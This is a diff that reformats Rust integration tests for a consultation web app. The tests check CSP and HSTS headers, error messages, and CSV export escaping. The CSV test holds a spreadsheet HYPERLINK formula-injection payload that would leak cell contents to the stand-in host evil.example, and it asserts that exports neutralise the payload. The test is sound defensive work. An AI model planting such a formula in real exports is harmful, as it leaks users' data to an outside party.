@@ -53,7 +53,10 @@ async fn pages_carry_security_headers_and_a_nonce_csp() {
     assert_eq!(r.status, StatusCode::OK);
     let h = |name: &str| r.headers.get(name).map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
     let csp = h("content-security-policy");
-    assert!(csp.contains("frame-ancestors 'none'") && csp.contains("'wasm-unsafe-eval'") && !csp.contains("unsafe-inline"), "{csp}");
+    assert!(
+        csp.contains("frame-ancestors 'none'") && csp.contains("'wasm-unsafe-eval'") && !csp.contains("unsafe-inline"),
+        "{csp}"
+    );
     let nonce = csp.split("'nonce-").nth(1).and_then(|s| s.split('\'').next()).expect("a nonce in the CSP");
     assert!(r.body.contains(&format!("nonce=\"{nonce}\"")), "the inline hydration script carries the same nonce");
     assert_eq!(h("x-content-type-options"), "nosniff");
@@ -99,14 +102,18 @@ async fn malformed_requests_get_a_plain_message_without_internals() {
 
 #[tokio::test]
 async fn clear_errors_for_a_bad_database_path_and_a_taken_port() {
-    let err = server::Application::build(support::config("sqlite:///proc/no-such-dir/x.db")).await.err().expect("fails");
+    let err =
+        server::Application::build(support::config("sqlite:///proc/no-such-dir/x.db")).await.err().expect("fails");
     assert!(err.to_string().starts_with("cannot open the database at sqlite:///proc/no-such-dir/x.db"), "{err}");
 
     let (app, dir) = TestApp::fresh().await;
     let mut config = support::config(&format!("sqlite://{}/other.db", dir.path().display()));
     config.addr = app.base.trim_start_matches("http://").parse().unwrap();
     let err = server::Application::build(config).await.err().expect("fails");
-    assert!(err.to_string().contains("cannot listen on") && err.to_string().contains("already using that port"), "{err}");
+    assert!(
+        err.to_string().contains("cannot listen on") && err.to_string().contains("already using that port"),
+        "{err}"
+    );
     app.stop().await;
 }
 
@@ -125,8 +132,12 @@ async fn strict_transport_security_comes_with_secure_cookies() {
     let app = TestApp::spawn_with(config).await;
     for path in ["/login", "/healthz", "/no/such/page"] {
         let r = app.client().get(path).await;
-        let hsts = r.headers.get("strict-transport-security").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
-        assert!(hsts.starts_with("max-age=") && hsts["max-age=".len()..].parse::<u64>().unwrap() >= 31_536_000, "{path}: {hsts:?}");
+        let hsts =
+            r.headers.get("strict-transport-security").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
+        assert!(
+            hsts.starts_with("max-age=") && hsts["max-age=".len()..].parse::<u64>().unwrap() >= 31_536_000,
+            "{path}: {hsts:?}"
+        );
     }
     app.stop().await;
 }
@@ -137,29 +148,57 @@ async fn strict_transport_security_comes_with_secure_cookies() {
 async fn exported_answers_never_run_as_spreadsheet_formulas() {
     let (app, _dir) = TestApp::fresh().await;
     let mut gp = app.signed_in("gp@example.org", Role::DesignGroup).await;
-    let r = gp.call("create_prototype", &[("title", "Living Well Hub"), ("summary", "One front door"), ("body", "## The problem\n\nPeople wait.\n"), ("themes", "hub")]).await;
+    let r = gp
+        .call(
+            "create_prototype",
+            &[
+                ("title", "Living Well Hub"),
+                ("summary", "One front door"),
+                ("body", "## The problem\n\nPeople wait.\n"),
+                ("themes", "hub"),
+            ],
+        )
+        .await;
     assert_eq!(r.status, StatusCode::OK, "{}", r.body);
     let proto = r.headers["location"].to_str().unwrap().split('/').nth(2).unwrap().to_string();
     let r = gp.call("publish_iteration", &[("id", &proto), ("change_note", "First try")]).await;
     assert_eq!(r.status, StatusCode::OK, "{}", r.body);
     let now = chrono::Utc::now().timestamp();
-    let (opens, closes) = (app::consultations::to_local_input(now - 60), app::consultations::to_local_input(now + 86_400));
+    let (opens, closes) =
+        (app::consultations::to_local_input(now - 60), app::consultations::to_local_input(now + 86_400));
     let form = [
-        ("prototype", proto.as_str()), ("iteration", "1"), ("title", "Thoughts"), ("purpose", "Tell us."), ("audience", "public"),
-        ("opens", &opens), ("closes", &closes),
-        ("kind[]", "text"), ("prompt[]", "=1+1 what would help?"), ("options[]", ""), ("low[]", ""), ("high[]", ""), ("required[]", "yes"),
+        ("prototype", proto.as_str()),
+        ("iteration", "1"),
+        ("title", "Thoughts"),
+        ("purpose", "Tell us."),
+        ("audience", "public"),
+        ("opens", &opens),
+        ("closes", &closes),
+        ("kind[]", "text"),
+        ("prompt[]", "=1+1 what would help?"),
+        ("options[]", ""),
+        ("low[]", ""),
+        ("high[]", ""),
+        ("required[]", "yes"),
     ];
     let r = gp.call("open_round", &form).await;
     assert_eq!(r.status, StatusCode::OK, "{}", r.body);
-    let round = r.headers["location"].to_str().unwrap().split('/').nth(2).unwrap().split('?').next().unwrap().to_string();
+    let round =
+        r.headers["location"].to_str().unwrap().split('/').nth(2).unwrap().split('?').next().unwrap().to_string();
 
     let attack = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")";
     let mut visitor = app.client();
-    let page: serde_json::Value = serde_json::from_str(&visitor.call("load_round", &[("id", &round)]).await.body).unwrap();
+    let page: serde_json::Value =
+        serde_json::from_str(&visitor.call("load_round", &[("id", &round)]).await.body).unwrap();
     let q = page["questions"][0]["id"].as_i64().unwrap();
     let key = page["key"].as_str().unwrap().to_string();
     let field = format!("answers[q{q}]");
-    let r = visitor.call("submit_response", &[("round", &round), ("key", &key), (&field, attack), ("consent", "quote_anonymously")]).await;
+    let r = visitor
+        .call(
+            "submit_response",
+            &[("round", &round), ("key", &key), (&field, attack), ("consent", "quote_anonymously")],
+        )
+        .await;
     assert_eq!(r.status, StatusCode::OK, "{}", r.body);
 
     for audience in ["publication", "design_group"] {
@@ -167,7 +206,14 @@ async fn exported_answers_never_run_as_spreadsheet_formulas() {
         assert_eq!(csv.status, StatusCode::OK, "{}", csv.body);
         // The csv crate quotes the cell (it holds quotes), so the `'` follows the opening quote.
         assert!(csv.body.contains("\"'=HYPERLINK("), "{audience}: {}", csv.body);
-        assert!(!csv.body.contains(",=") && !csv.body.contains(",\"=") && !csv.body.contains("\n=") && !csv.body.contains("\n\"="), "{audience}: {}", csv.body);
+        assert!(
+            !csv.body.contains(",=")
+                && !csv.body.contains(",\"=")
+                && !csv.body.contains("\n=")
+                && !csv.body.contains("\n\"="),
+            "{audience}: {}",
+            csv.body
+        );
         assert!(csv.body.contains("'=1+1 what would help?"), "headers too: {}", csv.body);
     }
     app.stop().await;
